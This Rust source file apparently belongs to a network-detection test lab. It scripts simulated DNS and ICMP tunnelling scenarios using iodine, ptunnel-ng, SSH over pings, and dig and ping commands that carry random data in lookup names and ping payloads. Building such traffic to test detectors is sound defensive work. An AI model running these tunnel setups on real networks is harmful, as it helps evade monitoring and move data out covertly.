//! Tunnels through DNS and ICMP: by iodine and ptunnel-ng, and by plain programs that carry data in names and pings.

use std::thread::sleep;
use std::time::Duration;

use anyhow::{Result, ensure};
use lab::benign::SSH_OPTIONS;
use lab::network::{INTERNET, INTERNET_V6, LAN_HOST, NAME_SERVER};
use lab::process::{Running, run_any, wait_until};
use lab::services::{USER, user_key};

use crate::scenario::{INSIDE, INSIDE_V6, Scenario};
use crate::stage::Scene;

/// How long one program may take.
const LIMIT: Duration = Duration::from_secs(25);

/// Where the tunnels end outside.
const END: &str = INTERNET[2];
/// The address of the outer end within the tunnel through DNS.
const INNER_END: &str = "198.18.200.1";

/// All of them.
pub fn scenarios() -> Vec<Scenario> {
    let dns = |name: &str, victim: &str, act: fn(&Scene) -> Result<()>| {
        Scenario::attack("tunnel_dns", "dns-tunnel", name, INSIDE, victim, act)
    };
    let icmp = |name: &str, attacker: &str, victim: &str, act: fn(&Scene) -> Result<()>| {
        Scenario::attack("tunnel_icmp", "icmp-tunnel", name, attacker, victim, act)
    };
    vec![
        dns("iodine_null_idle", END, |s| iodine(s, "-T NULL", |s| quiet(s, 1.0))),
        dns("iodine_null_busy", END, |s| iodine(s, "-T NULL", busy)),
        dns("iodine_txt_busy", END, |s| iodine(s, "-T TXT", busy)),
        dns("iodine_cname_idle", END, |s| iodine(s, "-T CNAME", |s| quiet(s, 0.3))),
        dns("iodine_a_busy", END, |s| iodine(s, "-T A", busy)),
        dns("names_carry_data", NAME_SERVER, |s| carry_in_names(s, 300, 20)),
        dns("names_carry_data_slowly", NAME_SERVER, |s| carry_in_names(s, 60, 400)),
        icmp("ptunnel_ssh", INSIDE, END, |s| ptunnel(s, 3)),
        icmp("ptunnel_ssh_more", INSIDE, END, |s| ptunnel(s, 8)),
        icmp("pings_carry_data", INSIDE, END, |s| carry_in_pings(s, END, 200, 0.02, 1_200)),
        icmp("pings_carry_data_slowly", INSIDE, END, |s| carry_in_pings(s, END, 40, 0.4, 900)),
        icmp("pings_carry_data_v6", INSIDE_V6, INTERNET_V6, |s| carry_in_pings(s, INTERNET_V6, 120, 0.05, 1_000)),
    ]
}

/// Runs something through a tunnel of iodine, which speaks to its server without a resolver between.
fn iodine(scene: &Scene, options: &str, through: impl Fn(&Scene) -> Result<()>) -> Result<()> {
    let server = format!("iodined -f -c -P secret -l {END} {INNER_END}/24 t.example.org");
    let _server = scene.wan().start(&server)?;
    sleep(Duration::from_millis(500));
    let client = format!("iodine -f -r -P secret {options} {END} t.example.org");
    let mut client = scene.lan().start(&client)?;
    wait_until("the tunnel stands", LIMIT, || {
        !client.is_alive() || client.stderr().contains("Connection setup complete")
    })?;
    ensure!(client.is_alive(), client.complaint("ended at once"));
    through(scene)
}

fn quiet(scene: &Scene, interval_s: f64) -> Result<()> {
    let line = format!("ping -n -q -c {} -i {interval_s} {INNER_END}", (12.0 / interval_s) as u32);
    run_any(&mut scene.lan().words(&line), LIMIT).map(|_| ())
}

/// A file and some pages; what does not fit into the time is left.
fn busy(scene: &Scene) -> Result<()> {
    let line =
        format!("curl -s -m 12 -o /dev/null http://{INNER_END}/style.css -o /dev/null http://{INNER_END}/app.js");
    run_any(&mut scene.lan().words(&line), LIMIT).map(|_| ())
}

/// A program that leaks a file in names that it looks up.
fn carry_in_names(scene: &Scene, count: usize, pause_ms: u64) -> Result<()> {
    let mut random = scene.random();
    for _ in 0..count.div_ceil(10) {
        let names: Vec<String> =
            (0..10).map(|_| format!("{}.{}.x.example.org TXT", random.letters(60), random.letters(40))).collect();
        let line = format!("dig -b {LAN_HOST} +tries=1 +timeout=1 +short @{NAME_SERVER} {}", names.join(" "));
        run_any(&mut scene.lan().words(&line), LIMIT)?;
        sleep(Duration::from_millis(pause_ms * 5));
    }
    Ok(())
}

/// ssh through pings.
fn ptunnel(scene: &Scene, commands: u32) -> Result<()> {
    let _server: Running = scene.wan().start(&format!("ptunnel-ng -r{END} -R22"))?;
    sleep(Duration::from_millis(500));
    let _client = scene.lan().start(&format!("ptunnel-ng -p{END} -l2222 -r{END} -R22"))?;
    sleep(Duration::from_millis(500));
    let key = user_key()?;
    let mut done = 0;
    for _ in 0..commands {
        let line = format!(
            "ssh {SSH_OPTIONS} -o ConnectTimeout=10 -p 2222 -i {} {USER}@127.0.0.1 ls -l /usr/bin",
            key.display()
        );
        done += u32::from(run_any(&mut scene.lan().words(&line), Duration::from_secs(12))?.success());
    }
    ensure!(done > 0, "nothing came through the tunnel");
    Ok(())
}

fn carry_in_pings(scene: &Scene, target: &str, count: u32, interval_s: f64, bytes: u32) -> Result<()> {
    let line = format!("ping -n -q -c {count} -i {interval_s} -s {bytes} -p 5a7c31e9 {target}");
    run_any(&mut scene.lan().words(&line), LIMIT).map(|_| ())
}
